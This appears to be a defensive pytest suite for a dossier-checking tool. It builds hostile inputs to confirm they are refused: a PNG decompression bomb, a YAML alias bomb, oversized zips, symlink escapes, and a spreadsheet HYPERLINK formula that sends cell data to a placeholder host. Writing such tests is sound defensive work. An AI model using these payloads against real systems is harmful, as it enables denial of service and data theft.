"""Hostile input (issue 9): each numbered reproduction, built here, must end in a finding or one clear exit-2 line
naming the file; never exit 3, never a change to the dossier, nothing written outside the chosen output, nothing
left in the temporary folder, and no applicant's full name or ID number in any output."""

from __future__ import annotations

import io
import json
import os
import re
import shutil
import signal
import struct
import subprocess
import sys
import tempfile
import time
import zipfile
import zlib
from pathlib import Path

import numpy as np
import pytest
from PIL import Image
from typer.testing import CliRunner

from conftest import DEMO_OK, FIXTURES, REPO, TODAY, checklist_variant, copy_names, tree_digest
from dossiercheck import archive
from dossiercheck.cache import FactsCache
from dossiercheck.cli import app
from dossiercheck.errors import UserError

NAME, ID = "王晓梅", "652801198805120026"   # demo-ok's applicant
HOSTILE = FIXTURES / "hostile"  # files written by others (see the README there)
CHEAP = ("--select", "I", "--select", "P", "--select", "R", "--select", "F", "-j", "1", "--today", TODAY)


# ------------------------------------------------------------------ helpers


@pytest.fixture(autouse=True)
def private_tmp(tmp_path, monkeypatch):
    """Every test gets its own temporary folder (what the tool unpacks or drafts into); it must be empty after."""
    tmp = tmp_path / ".tmp"
    tmp.mkdir()
    monkeypatch.setattr(tempfile, "tempdir", str(tmp))
    yield tmp
    assert sorted(p.name for p in tmp.iterdir()) == [], "left in the temporary folder"


def cli(*args, lang: str = "zh", width: int = 200):
    """The CLI in-process: an exception here is what the user would have seen as exit 3."""
    result = CliRunner().invoke(app, [str(a) for a in args], catch_exceptions=False,
                                env={"COLUMNS": str(width)})
    assert result.exit_code in (0, 1, 2), result.output
    out = result.stdout + result.stderr
    assert NAME not in out and ID not in out, out
    assert "Traceback" not in out
    return result


def refused(result, *names: str) -> str:
    """Exit 2 with one line that names the file."""
    assert result.exit_code == 2, result.output
    line = result.stderr.strip()
    assert len(line.splitlines()) == 1, line
    for name in names:
        assert name in line, line
    return line


def codes(result) -> set[tuple[str | None, str]]:
    return {(f["file"], f["code"]) for f in json.loads(result.stdout)["findings"]}


def listing(root: Path) -> set[str]:
    return {p.relative_to(root).as_posix() for p in root.rglob("*") if not p.relative_to(root).parts[0] == ".tmp"}


def refuse_listing(monkeypatch, locked: Path) -> None:
    real_scandir = os.scandir

    def scandir(path="."):  # the OS refusing, as chmod 000 does for anyone but root
        if Path(os.fsdecode(path)) == locked:
            raise PermissionError(13, "Permission denied", os.fsdecode(path))
        return real_scandir(path)

    monkeypatch.setattr(os, "scandir", scandir)


def demo(tmp_path: Path, name: str = "d") -> Path:
    """demo-ok's layout with empty files: cheap to check (every file is I101), no OCR."""
    return copy_names(DEMO_OK, tmp_path / name)


def page_png(mode: str = "L") -> bytes:
    im = Image.new("L", (300, 400), 250)
    for y in range(40, 360, 24):
        im.paste(20, (30, y, 270, y + 8))
    buf = io.BytesIO()
    if mode == "I;16":
        Image.fromarray(np.asarray(im).astype(np.uint16) * 257).save(buf, "PNG")
    else:
        im.save(buf, "PNG")
    return buf.getvalue()


def zip_of(folder: Path | None, target: Path, extra: list[tuple[zipfile.ZipInfo | str, bytes]] = ()) -> Path:
    with zipfile.ZipFile(target, "w", zipfile.ZIP_DEFLATED) as z:
        if folder is not None:
            for p in sorted(folder.rglob("*")):
                if p.is_file():
                    z.write(p, p.relative_to(folder).as_posix())
        for info, data in extra:
            z.writestr(info, data)
    return target


def mark_encrypted(z: Path) -> Path:
    """Set the 'encrypted' flag on every entry (zipfile cannot write encrypted entries; a reader only sees the flag)."""
    data = bytearray(z.read_bytes())
    for signature, offset in ((b"PK\x03\x04", 6), (b"PK\x01\x02", 8)):
        at = data.find(signature)
        while at != -1:
            data[at + offset] |= 0x1
            at = data.find(signature, at + 4)
    z.write_bytes(bytes(data))
    return z


def profile_text(**changes: str) -> str:
    text = (DEMO_OK / "applicant.yaml").read_text(encoding="utf-8")
    for old, new in changes.items():
        text = text.replace(old, new)
    return text


# ------------------------------------------------------------------ 1–2 data loss and writes into the dossier


def test_1_cache_clear_deletes_only_its_own_folder(tmp_path, monkeypatch):
    docs = tmp_path / "docs"
    docs.mkdir()
    (docs / "thesis.docx").write_text("x")
    monkeypatch.setenv("DOSSIERCHECK_CACHE_DIR", str(docs))
    d = demo(tmp_path)
    (d / "08-代表作品/作品.jpg").write_bytes(page_png())
    cli("check", d, *CHEAP)
    assert list((docs / "facts").rglob("*.json"))
    cli("cache", "clear")
    assert (docs / "thesis.docx").read_text() == "x"
    assert not (docs / "facts").exists()
    # a "facts" folder the tool did not mark is not the tool's to delete
    (docs / "facts").mkdir()
    (docs / "facts" / "mine.json").write_text("{}")
    cli("cache", "clear")
    assert (docs / "facts" / "mine.json").exists()


@pytest.mark.parametrize("where", ["01-身份证/身份证-正面.jpg", "报告.json"])
def test_2_report_inside_the_dossier_is_refused(tmp_path, where):
    d = demo(tmp_path)
    (d / "01-身份证/身份证-正面.jpg").write_bytes(b"scan")
    before = tree_digest(d)
    refused(cli("check", d, "-f", "json", "-o", d / where, *CHEAP), where.split("/")[-1])
    assert tree_digest(d) == before and not (d / "报告.json").exists()


def test_2_report_through_a_link_into_the_dossier_is_refused(tmp_path):
    d = demo(tmp_path)
    (tmp_path / "r.json").symlink_to(d / "01-身份证/身份证-正面.jpg")
    before = tree_digest(d)
    refused(cli("check", d, "-f", "json", "-o", tmp_path / "r.json", *CHEAP), "r.json")
    assert tree_digest(d) == before


def test_2_and_16_report_is_written_atomically_and_private(tmp_path):
    d = demo(tmp_path)
    before, files = tree_digest(d), listing(tmp_path)
    result = cli("check", d, "-f", "json", "-o", tmp_path / "r.json", *CHEAP)
    assert result.exit_code == 1
    assert listing(tmp_path) - files == {"r.json"}
    assert (tmp_path / "r.json").stat().st_mode & 0o777 == 0o600
    assert json.loads((tmp_path / "r.json").read_text(encoding="utf-8"))["passed"] is False
    assert tree_digest(d) == before


def test_2_report_inside_a_zipped_dossier_source_is_refused(tmp_path):
    z = zip_of(demo(tmp_path), tmp_path / "d.zip")
    data = z.read_bytes()
    refused(cli("check", z, "-f", "json", "-o", z, *CHEAP), "d.zip")
    assert z.read_bytes() == data


def test_2_batch_outputs_inside_an_applicants_folder_are_refused(tmp_path):
    root = tmp_path / "root"
    demo(root, "a"), demo(root, "b")
    before = tree_digest(root)
    refused(cli("batch", root, "--reports", root / "a" / "reports", "--today", TODAY), "reports")
    refused(cli("batch", root, "--roster", root / "b" / "roster.xlsx", "--today", TODAY), "roster.xlsx")
    assert tree_digest(root) == before and not (root / "a/reports").exists()


def test_2_fix_never_writes_through_a_link_into_the_original(tmp_path):
    d = demo(tmp_path)  # empty files: nothing to read by OCR, every file is copied as it is
    out = tmp_path / "D"
    out.mkdir()
    (out / "11-论文").symlink_to(d / "11-论文")
    before = tree_digest(d)
    result = cli("fix", d, "--out", out, "--force", "--no-mask", "-j", "1", "--checklist", "bz-news-2023")
    refused(result, "11-论文")
    assert tree_digest(d) == before and sorted(p.name for p in out.iterdir()) == ["11-论文"]  # refused up front


@pytest.mark.parametrize("by_descriptor", [True, False], ids=["posix", "by-path (Windows)"])
def test_2_writes_below_an_output_folder_never_follow_a_link(tmp_path, monkeypatch, by_descriptor):
    from dossiercheck import safeio

    monkeypatch.setattr(safeio, "_BY_DESCRIPTOR", by_descriptor)

    victim = tmp_path / "victim"
    victim.mkdir()
    (victim / "x.jpg").write_bytes(b"original")
    out = tmp_path / "out"
    out.mkdir()
    (out / "sub").symlink_to(victim)
    with pytest.raises(UserError) as err:
        safeio.write_file(out / "sub" / "x.jpg", lambda p: p.write_bytes(b"evil"), below=out)
    assert err.value.key == "error.output_link"
    assert (victim / "x.jpg").read_bytes() == b"original"
    # a link as the file itself is replaced, not written through
    (out / "y.jpg").symlink_to(victim / "x.jpg")
    safeio.write_file(out / "y.jpg", lambda p: p.write_bytes(b"new"), below=out)
    assert (victim / "x.jpg").read_bytes() == b"original" and not (out / "y.jpg").is_symlink()
    assert (out / "y.jpg").stat().st_mode & 0o777 == 0o600


def test_2_annotate_inside_the_dossier_is_refused(tmp_path):
    d = demo(tmp_path)
    before = tree_digest(d)
    refused(cli("check", d, "--annotate", d / "previews", *CHEAP), "previews")
    assert tree_digest(d) == before and not (d / "previews").exists()


def test_2_annotate_into_a_folder_holding_a_link_is_refused(tmp_path):
    d = demo(tmp_path)
    out = tmp_path / "D"
    out.mkdir()
    (out / "11-论文").symlink_to(d / "11-论文")
    before = tree_digest(d)
    refused(cli("check", d, "--annotate", out, *CHEAP), "11-论文")
    assert tree_digest(d) == before and sorted(p.name for p in out.iterdir()) == ["11-论文"]


# ------------------------------------------------------------------ 3–10 one bad input must not stop the run


def aes_pdf(user: str) -> bytes:
    from pypdf import PdfWriter

    writer = PdfWriter()
    writer.add_blank_page(595, 842)
    writer.encrypt(user_password=user, owner_password="owner", algorithm="AES-256")
    buf = io.BytesIO()
    writer.write(buf)
    return buf.getvalue()


def test_3_aes_encrypted_pdf_is_i104(tmp_path):
    d = demo(tmp_path)
    (d / "11-论文/加密.pdf").write_bytes(aes_pdf("secret"))
    (d / "11-论文/只有所有者密码.pdf").write_bytes(aes_pdf(""))
    found = codes(cli("check", d, "-f", "json", *CHEAP))
    assert ("11-论文/加密.pdf", "I104") in found
    assert not {c for f, c in found if f == "11-论文/只有所有者密码.pdf"} & {"I104", "I105"}


def test_3_pypdf_own_aes_samples(tmp_path):
    d = demo(tmp_path)
    for name in ("r6-user-password.pdf", "r6-owner-password.pdf", "crazyones-encrypted-256.pdf"):
        shutil.copyfile(HOSTILE / name, d / "11-论文" / name)
    found = codes(cli("check", d, "-f", "json", *CHEAP))
    assert {("11-论文/r6-user-password.pdf", "I104"), ("11-论文/crazyones-encrypted-256.pdf", "I104")} <= found
    assert not {c for f, c in found if f == "11-论文/r6-owner-password.pdf"} & {"I104", "I105"}


def test_3_any_pypdf_failure_is_a_finding(tmp_path, monkeypatch):
    import pypdf
    from pypdf.errors import DependencyError

    def missing_crypto(*args, **kwargs):
        raise DependencyError("cryptography>=3.1 is required for AES algorithm")

    monkeypatch.setattr(pypdf, "PdfReader", missing_crypto)
    d = demo(tmp_path)
    (d / "11-论文/加密.pdf").write_bytes(aes_pdf("secret"))
    assert ("11-论文/加密.pdf", "I104") in codes(cli("check", d, "-f", "json", *CHEAP))


def ztxt_bomb_png() -> bytes:
    """A valid PNG whose zTXt chunk inflates past Pillow's text limit (as Pillow's png_decompression_dos.png)."""
    def chunk(kind: bytes, body: bytes) -> bytes:
        return struct.pack(">I", len(body)) + kind + body + struct.pack(">I", zlib.crc32(kind + body))
    ihdr = struct.pack(">IIBBBBB", 8, 8, 8, 0, 0, 0, 0)
    text = chunk(b"zTXt", b"Comment\0\0" + zlib.compress(b"a" * 20_000_000, 9))
    idat = chunk(b"IDAT", zlib.compress(b"\0" * 9 * 8))
    return b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", ihdr) + text + idat + chunk(b"IEND", b"")


def test_4_png_text_chunk_bomb_is_i102(tmp_path):
    d = demo(tmp_path)
    (d / "08-代表作品/炸弹.png").write_bytes(ztxt_bomb_png())
    shutil.copyfile(HOSTILE / "png_decompression_dos.png", d / "08-代表作品/pillow.png")
    found = codes(cli("check", d, "-f", "json", *CHEAP))
    assert {("08-代表作品/炸弹.png", "I102"), ("08-代表作品/pillow.png", "I102")} <= found


def test_5_symlink_loop_is_reported(tmp_path):
    d = demo(tmp_path)
    p = d / "04-学历学位证书"
    (p / "a.jpg").symlink_to("b.jpg")
    (p / "b.jpg").symlink_to("a.jpg")
    found = codes(cli("check", d, "-f", "json", *CHEAP))
    assert {("04-学历学位证书/a.jpg", "I107"), ("04-学历学位证书/b.jpg", "I107")} <= found


def test_5_linked_folder_to_outside_is_reported_not_skipped(tmp_path):
    d = demo(tmp_path)
    elsewhere = tmp_path / "elsewhere"
    elsewhere.mkdir()
    (elsewhere / "论文.jpg").write_bytes(page_png())
    shutil.rmtree(d / "11-论文")
    (d / "11-论文").symlink_to(elsewhere)
    result = cli("check", d, "-f", "json", *CHEAP)
    assert ("11-论文", "I108") in codes(result) and result.exit_code == 1


def test_6_undecodable_file_name_is_shown_and_reported(tmp_path):
    d = demo(tmp_path)
    (Path(os.fsdecode(bytes(d / "04-学历学位证书"))) / os.fsdecode(b"bad\xff.jpg")).write_bytes(page_png())
    result = cli("check", d, "-f", "json", "-o", tmp_path / "r.json", *CHEAP)
    report = json.loads((tmp_path / "r.json").read_text(encoding="utf-8"))
    assert ("04-学历学位证书/bad\ufffd.jpg", "I115") in {(f["file"], f["code"]) for f in report["findings"]}
    assert result.exit_code == 1
    # the rich report to a pipe (a real process: its stdout is a pipe with a strict encoder)
    env = {**os.environ, "PYTHONIOENCODING": "utf-8"}
    proc = subprocess.run([sys.executable, "-m", "dossiercheck", "check", str(d), *CHEAP], capture_output=True,
                          env=env, timeout=120)
    assert proc.returncode == 1, proc.stderr.decode("utf-8", "replace")
    assert "bad\ufffd.jpg" in proc.stdout.decode("utf-8")


def test_7_zip_names_too_long_conflicting_or_twice_are_reported(tmp_path):
    d = demo(tmp_path)
    long_name = "08-代表作品/" + "长" * 90 + ".jpg"
    z = zip_of(d, tmp_path / "d.zip", [(long_name, b"x"), ("08-代表作品/x.jpg", b"x"), ("08-代表作品/x.jpg/y.jpg", b"y"),
                                        ("08-代表作品/twice.jpg", b"1")])
    with zipfile.ZipFile(z, "a") as zf, pytest.warns(UserWarning):
        zf.writestr("08-代表作品/twice.jpg", b"2")
    found = codes(cli("check", z, "-f", "json", *CHEAP))
    assert {(long_name, "I116"), ("08-代表作品/x.jpg/y.jpg", "I116"), ("08-代表作品/twice.jpg", "I116")} <= found


def test_8_impossible_dates_are_profile_errors(tmp_path):
    d = demo(tmp_path)
    (d / "applicant.yaml").write_text(profile_text(**{"from: 2010-07,": "from: 2010-02-30,"}), encoding="utf-8")
    line = refused(cli("check", d, *CHEAP), "applicant.yaml", "work_history[0].from")
    assert "2010-02-30" in line
    (d / "applicant.yaml").write_text(profile_text(**{"2018-07-01": "2018-02-31"}), encoding="utf-8")
    refused(cli("check", d, *CHEAP, lang="en"), "applicant.yaml", "current_title_date")
    refused(cli("check", d, "--lang", "en", *CHEAP), "does not exist")


def test_8_deep_nesting_in_a_checklist_is_a_clear_error(tmp_path):
    deep = "{not: " * 400 + "{level: 中级}" + "}" * 400
    bad = checklist_variant(tmp_path, "folder: 01-身份证", f"folder: 01-身份证\n    when: {deep}")
    refused(cli("checklist", "validate", bad), bad.name)


POISON = ["[]", '"str"', "NaN", "{}", '{"ext": 1}', '{"ext": ".jpg", "error": {"code": "no_such_code"}}',
          '{"ext": ".jpg", "kind": "jpeg", "ext_ok": true, "width": "wide"}',
          '{"ext": ".jpg", "kind": "jpeg", "ext_ok": true, "width": 9, "height": 9, "quality": {"paper": 1, "median": 1,'
          ' "contrast": 1, "ink": 1, "sharpness": 1, "colour": 1}, "ocr": [{"lines": [{"t": "x", "b": [0, 0]}]}]}']


@pytest.mark.parametrize("poison", POISON)
def test_9_poisoned_cache_entries_are_misses(tmp_path, monkeypatch, poison):
    monkeypatch.setenv("DOSSIERCHECK_CACHE_DIR", str(tmp_path / "cache"))
    d = demo(tmp_path)
    (d / "08-代表作品/坏.jpg").write_bytes(b"\xff\xd8\xff\xe0 not really")
    first = codes(cli("check", d, "-f", "json", *CHEAP))
    entries = list((tmp_path / "cache").rglob("*.json"))
    assert entries
    for entry in entries:
        digest = json.loads(entry.read_text(encoding="utf-8"))["sha256"]
        if poison.startswith("{"):  # the right hash, the wrong shape: only the shape can give it away
            poison = json.dumps({**json.loads(poison), "sha256": digest})
        entry.write_text(poison, encoding="utf-8")
    assert codes(cli("check", d, "-f", "json", *CHEAP)) == first


def test_9_a_file_changed_after_hashing_is_not_cached(tmp_path):
    from dossiercheck.inspect import Plan, Task, file_hash, inspect_file

    path = tmp_path / "a.png"
    path.write_bytes(page_png())
    task = Task("a.png", str(path))
    plan = Plan({}, [(task, file_hash(path))], FactsCache(root=tmp_path / "cache"))
    facts = inspect_file(task)
    path.write_bytes(ztxt_bomb_png())  # replaced between hashing and caching
    plan.store(0, facts)
    assert not list((tmp_path / "cache").rglob("*.json"))


@pytest.fixture
def hostile_root(tmp_path):
    root = tmp_path / "root"
    demo(root, "a-good")
    loop = demo(root, "b-loop") / "04-学历学位证书"
    (loop / "a.jpg").symlink_to("b.jpg")
    (loop / "b.jpg").symlink_to("a.jpg")
    bad_date = demo(root, "c-date")
    (bad_date / "applicant.yaml").write_text(profile_text(**{"2018-07-01": "2018-02-31"}), encoding="utf-8")
    mark_encrypted(zip_of(None, root / "d-encrypted.zip", [("applicant.yaml", b"x")]))
    zip_of(demo(tmp_path, "e"), root / "e-bomb.zip", [("08-代表作品/炸弹.png", ztxt_bomb_png()),
                                                      ("08-代表作品/" + "长" * 90 + ".jpg", b"x")])
    shutil.rmtree(tmp_path / "e")
    return root


def test_10_batch_goes_on_past_hostile_dossiers(hostile_root, tmp_path):
    before = tree_digest(hostile_root)
    result = cli("batch", hostile_root, "-f", "json", "--roster", tmp_path / "r.csv", "--today", TODAY)
    assert result.exit_code == 1
    rows = {r["folder"]: r for r in json.loads(result.stdout)}
    assert set(rows) == {"a-good", "b-loop", "c-date", "d-encrypted.zip", "e-bomb.zip"}
    assert rows["a-good"]["report"] and rows["b-loop"]["report"] and rows["e-bomb.zip"]["report"]
    assert "current_title_date" in rows["c-date"]["error"]
    assert "加密" in rows["d-encrypted.zip"]["error"]
    bomb = {(f["file"], f["code"]) for f in rows["e-bomb.zip"]["report"]["findings"]}
    assert ("08-代表作品/炸弹.png", "I102") in bomb
    assert tree_digest(hostile_root) == before


def test_10_facts_are_cached_as_they_finish(hostile_root, tmp_path, monkeypatch):
    import dossiercheck.batch as batch

    monkeypatch.setenv("DOSSIERCHECK_CACHE_DIR", str(tmp_path / "cache"))

    def crash(ctx, options):
        raise RuntimeError("evaluation crashed")

    monkeypatch.setattr(batch, "evaluate", crash)
    result = cli("batch", hostile_root, "-f", "json", "--today", TODAY)
    assert result.exit_code == 1
    rows = {r["folder"]: r for r in json.loads(result.stdout)}
    assert "RuntimeError" in rows["a-good"]["error"]
    assert list((tmp_path / "cache").rglob("*.json"))


# ------------------------------------------------------------------ 11–12 resource bombs


def laughs() -> str:
    lines = ["a0: &a0 [x, x, x, x, x, x, x, x, x]"]
    lines += [f"a{n}: &a{n} [" + ", ".join([f"*a{n - 1}"] * 9) + "]" for n in range(1, 10)]
    return "\n".join(lines) + "\n"


def test_11_alias_bomb_in_a_profile_is_refused(tmp_path):
    d = demo(tmp_path)
    (d / "applicant.yaml").write_text(profile_text() + laughs().replace("a0:", "x_a0:"), encoding="utf-8")
    start = time.monotonic()
    refused(cli("check", d, *CHEAP), "applicant.yaml")
    assert time.monotonic() - start < 30  # a sanity bound on a refusal, not a speed target


def test_11_alias_bomb_in_a_checklist_is_refused(tmp_path):
    bad = tmp_path / "bomb.yaml"
    bad.write_text(laughs(), encoding="utf-8")
    refused(cli("checklist", "validate", bad), "bomb.yaml")


def test_11_huge_yaml_and_long_lists_are_refused(tmp_path):
    d = demo(tmp_path)
    (d / "applicant.yaml").write_text(profile_text() + "# " + "x" * 2_000_000 + "\n", encoding="utf-8")
    refused(cli("check", d, *CHEAP), "applicant.yaml")
    variants = "name_variants: [" + ", ".join(["王某"] * 20_000) + "]"
    (d / "applicant.yaml").write_text(profile_text(**{"name_variants: []": variants}), encoding="utf-8")
    refused(cli("check", d, *CHEAP), "applicant.yaml")
    few = "name_variants: [" + ", ".join(["王某"] * 50) + "]"
    (d / "applicant.yaml").write_text(profile_text(**{"name_variants: []": few}), encoding="utf-8")
    refused(cli("check", d, *CHEAP), "applicant.yaml", "name_variants")


def test_12_zip_total_is_capped_before_writing(tmp_path, monkeypatch):
    assert archive.MAX_TOTAL <= 500_000_000  # a dossier is some 25 items of at most 10 MB
    monkeypatch.setattr(archive, "MAX_TOTAL", 2_000_000)
    rng = np.random.default_rng(1)
    entries = [(f"08-代表作品/{i}.jpg", rng.bytes(400_000)) for i in range(10)]  # 4 MB that does not compress
    z = zip_of(demo(tmp_path), tmp_path / "d.zip", entries)
    dest = tmp_path / "dest"
    dest.mkdir()
    problems = archive.unpack(z, dest)
    assert sum(p.stat().st_size for p in dest.rglob("*") if p.is_file()) <= 2_000_000
    assert sum(1 for p in problems if p["code"] == "I112") >= 5
    shutil.rmtree(dest)
    found = codes(cli("check", z, "-f", "json", *CHEAP))
    assert ("08-代表作品/9.jpg", "I112") in found


def test_12_zip_of_many_megabytes_of_zeros_is_refused_by_ratio(tmp_path):
    z = zip_of(demo(tmp_path), tmp_path / "d.zip", [(f"08-代表作品/{i}.jpg", b"\0" * 1_000_000) for i in range(30)])
    found = codes(cli("check", z, "-f", "json", *CHEAP))
    assert {(f"08-代表作品/{i}.jpg", "I112") for i in range(30)} <= found


# ------------------------------------------------------------------ 13–16 personal data


def test_13_schema_errors_never_echo_personal_values(tmp_path):
    d = demo(tmp_path)  # (an ID without quotes is read as its digits: a list is what the schema refuses)
    (d / "applicant.yaml").write_text(profile_text(**{f'"{ID}"': f"[{ID}]"}), encoding="utf-8")
    refused(cli("check", d, *CHEAP), "id_number")
    refused(cli("check", d, *CHEAP, "--lang", "en"), "id_number")
    (d / "applicant.yaml").write_text(profile_text(**{f"name: {NAME}": f"name: [{NAME}]"}), encoding="utf-8")
    refused(cli("check", d, *CHEAP), "name")
    refused(cli("check", d, *CHEAP, "--lang", "en"), "name")
    e = demo(tmp_path, "e")
    (e / "applicant.yaml").write_text(profile_text(**{f'"{ID}"': f"[{ID}]"}), encoding="utf-8")
    for fmt in ("rich", "json"):  # the batch table and JSON too (cli() asserts neither name nor ID appears)
        result = cli("batch", tmp_path, "-f", fmt, "--today", TODAY)
        assert result.exit_code == 1 and "id_number" in result.stdout


def test_14_unreadable_dossier_is_shown_by_its_folder_not_as_the_applicant(tmp_path):
    root = tmp_path / "root"
    bad = demo(root, "张三丰")
    (bad / "applicant.yaml").write_text("name: [\n", encoding="utf-8")
    demo(root, "ok")
    table = cli("batch", root, "--today", TODAY).stdout
    row = next(line for line in table.splitlines() if "张三丰" in line)
    cells = [c.strip() for c in re.split("[│┃]", row)]
    assert cells[1] == "张三丰" and cells[2] == ""  # 文件夹 column, 申报人 column empty
    head = next(line for line in table.splitlines() if "申报人" in line)
    assert [c.strip() for c in re.split("[│┃]", head)][1:3] == ["文件夹", "申报人"]
    rows = json.loads(cli("batch", root, "-f", "json", "--today", TODAY).stdout)
    assert {r["folder"] for r in rows} == {"张三丰", "ok"}
    assert str(root) not in json.dumps([r["error"] for r in rows], ensure_ascii=False)


@pytest.mark.parametrize("sig", ["SIGTERM", "SIGHUP"])
def test_15_terminating_signals_clean_up_temp_dir_and_workers(tmp_path, sig):
    d = demo(tmp_path)
    slow = io.BytesIO()
    Image.new("L", (6000, 6000), 255).save(slow, "PNG")
    for i in range(12):
        (d / f"08-代表作品/{i}.png").write_bytes(slow.getvalue())
    z = zip_of(d, tmp_path / "d.zip")
    tmp = tmp_path / "proc-tmp"
    tmp.mkdir()
    env = {**os.environ, "TMPDIR": str(tmp), "DOSSIERCHECK_CACHE_DIR": str(tmp_path / "cache")}
    proc = subprocess.Popen([sys.executable, "-m", "dossiercheck", "check", str(z), "--no-cache", "-j", "2",
                             "--select", "I"], env=env, stdout=subprocess.PIPE, stderr=subprocess.PIPE)
    children: set[int] = set()
    deadline = time.monotonic() + 60
    while not children and time.monotonic() < deadline and proc.poll() is None:
        time.sleep(0.05)
        try:
            children = {int(c) for c in Path(f"/proc/{proc.pid}/task/{proc.pid}/children").read_text().split()}
        except OSError:
            pass
    assert children, "the check never started its workers"
    time.sleep(0.3)
    proc.send_signal(getattr(signal, sig))
    out, err = proc.communicate(timeout=60)
    assert proc.returncode == 128 + getattr(signal, sig), err.decode("utf-8", "replace")
    assert b"Traceback" not in err
    assert list(tmp.iterdir()) == []
    time.sleep(0.2)
    alive = [c for c in children if Path(f"/proc/{c}").exists() and
             "Z" not in Path(f"/proc/{c}/stat").read_text().split(")")[-1].split()[0]]
    assert alive == []


def test_16_batch_reports_and_roster_are_private(tmp_path):
    root = tmp_path / "root"
    demo(root, "a")
    out = tmp_path / "out"
    cli("batch", root, "--reports", out / "reports", "--roster", out / "r.xlsx", "--today", TODAY)
    written = [p for p in out.rglob("*") if p.is_file()]
    assert {p.name for p in written} == {"a.json", "a.html", "r.xlsx"}
    assert all(p.stat().st_mode & 0o777 == 0o600 for p in written)


# ------------------------------------------------------------------ 17–21 wrong answers


def test_17_unreadable_sub_folder_is_reported_never_passed(tmp_path, monkeypatch):
    d = demo(tmp_path)
    refuse_listing(monkeypatch, d / "11-论文")
    result = cli("check", d, "-f", "json", *CHEAP)
    assert ("11-论文", "I107") in codes(result) and result.exit_code == 1


@pytest.mark.parametrize("fmt", ["PNG", "TIFF"])
def test_18_sixteen_bit_greyscale_is_scaled_not_clipped(tmp_path, fmt):
    from dossiercheck.fix import _apply
    from dossiercheck.inspect.image import decode

    path = tmp_path / f"page.{fmt.lower()}"
    Image.open(io.BytesIO(page_png("I;16"))).save(path, fmt)
    assert Image.open(path).mode.startswith("I")
    im, _ = decode(path)
    assert np.asarray(im).min() < 40  # the text is still there
    page, _ = _apply(path, [{"do": "convert"}])
    assert np.asarray(page).min() < 40
    d = demo(tmp_path)
    shutil.copyfile(path, d / f"08-代表作品/page.{fmt.lower()}")
    found = codes(cli("check", d, "-f", "json", "--select", "L", "-j", "1", "--today", TODAY))
    assert not {c for f, c in found if f == f"08-代表作品/page.{fmt.lower()}"} & {"L103"}


def test_19_nan_thresholds_and_escaping_folders_are_refused(tmp_path):
    text = (REPO / "schemas/checklists/bz-news-2023.yaml").read_text(encoding="utf-8")
    nan = tmp_path / "nan.yaml"
    nan.write_text(text.replace("thresholds:", "thresholds:\n  x_nan: .nan", 1) if "thresholds:" in text else
                   text + "\nthresholds: {blank_ink: .nan}\n", encoding="utf-8")
    refused(cli("checklist", "validate", nan), "nan.yaml")
    for folder in ("../X", "/tmp/X"):
        bad = checklist_variant(tmp_path, "folder: 01-身份证", f"folder: {folder}")
        before = listing(tmp_path)
        refused(cli("init", tmp_path / "new", "--checklist", bad), bad.name, "folder")
        assert listing(tmp_path) == before and not Path("/tmp/X").exists()


def test_20_all_encrypted_zip_says_so(tmp_path):
    z = mark_encrypted(zip_of(demo(tmp_path), tmp_path / "d.zip"))
    line = refused(cli("check", z, *CHEAP), "d.zip")
    assert "密码" in line and "init" not in line
    assert "encrypted" in refused(cli("check", z, *CHEAP, "--lang", "en"), "d.zip")


def test_20_a_zip_cut_short_is_said_in_the_users_words(tmp_path):
    """zipfile's own 'File is not a zip file' is English; a batch row names the zip, not 张三.zip/."""
    z = zip_of(demo(tmp_path), tmp_path / "d.zip")
    z.write_bytes(z.read_bytes()[:-300])
    line = refused(cli("check", z, *CHEAP), "d.zip")
    assert "不是完整的 zip 文件" in line and "File is not" not in line
    assert "not a whole zip file" in refused(cli("check", z, *CHEAP, "--lang", "en"), "d.zip")
    root = tmp_path / "root"
    root.mkdir()
    (root / "孙七.zip").write_bytes(z.read_bytes())
    rows = json.loads(cli("batch", root, "-f", "json", "--today", TODAY).stdout)
    assert rows[0]["error"].startswith("无法打开压缩包 孙七.zip（"), rows[0]["error"]


def test_21_formula_in_name_is_a_profile_error(tmp_path):
    d = demo(tmp_path)
    formula = '=HYPERLINK("http://x.invalid/?"&A1,"王晓梅")'
    (d / "applicant.yaml").write_text(profile_text(**{f"name: {NAME}": f"name: '{formula}'"}), encoding="utf-8")
    line = refused(cli("check", d, *CHEAP), "applicant.yaml", "name")
    assert "HYPERLINK" not in line
    for bad in ("王\x07晓梅", "王" * 41):
        (d / "applicant.yaml").write_text(profile_text(**{f"name: {NAME}": f'name: "{bad}"'}), encoding="utf-8")
        refused(cli("check", d, *CHEAP), "applicant.yaml")
    (d / "applicant.yaml").write_text(profile_text(**{"unit: 巴音郭楞日报社": "unit: '@SUM(1)'"}), encoding="utf-8")
    refused(cli("check", d, *CHEAP), "applicant.yaml", "unit")


def test_21_roster_cells_are_text_never_formulas(tmp_path):
    from openpyxl import load_workbook

    root = tmp_path / "root"
    d = demo(root, "a")
    (d / "applicant.yaml").write_text(profile_text(**{"current_title: 助理记者": "current_title: '=1+1'",
                                                      "ethnicity: 汉族": "ethnicity: '@SUM(A1)'"}), encoding="utf-8")
    cli("batch", root, "--roster", tmp_path / "r.xlsx", "--today", TODAY)
    cli("batch", root, "--roster", tmp_path / "r.csv", "--today", TODAY)
    ws = load_workbook(tmp_path / "r.xlsx").active
    cells = [c for row in ws.iter_rows(min_row=4) for c in row if c.value is not None]
    assert cells and all(c.data_type == "s" for c in cells)
    assert "=1+1" in [c.value for c in cells]
    text = (tmp_path / "r.csv").read_text(encoding="utf-8-sig")
    assert "'=1+1" in text and "'@SUM(A1)" in text


# ------------------------------------------------------------------ 22–23 found in review


def test_22_unreadable_dossier_folder_is_one_line_naming_it(tmp_path, monkeypatch):
    d = demo(tmp_path)
    refuse_listing(monkeypatch, d)
    result = cli("check", d, *CHEAP)
    assert result.exit_code == 2 and "无法打开文件夹" in result.stderr and str(d) in result.stderr
    assert len(result.stderr.strip().splitlines()) == 1


def test_22_batch_unreadable_applicant_folder_is_its_own_row(tmp_path, monkeypatch):
    root = tmp_path / "root"
    demo(root, "a")
    refuse_listing(monkeypatch, demo(root, "b"))
    rows = {r["folder"]: r for r in json.loads(cli("batch", root, "--format", "json", *CHEAP[-4:]).stdout)}
    assert rows["b"]["verdict"] == "unreadable" and "无法打开文件夹" in rows["b"]["error"]
    assert rows["a"]["report"] is not None and rows["a"]["verdict"] == "failed"


def test_23_a_folder_and_a_zip_of_one_name_keep_their_own_reports(tmp_path):
    root = tmp_path / "root"
    root.mkdir()
    zip_of(demo(tmp_path, "a"), root / "a.zip")
    demo(root, "a")
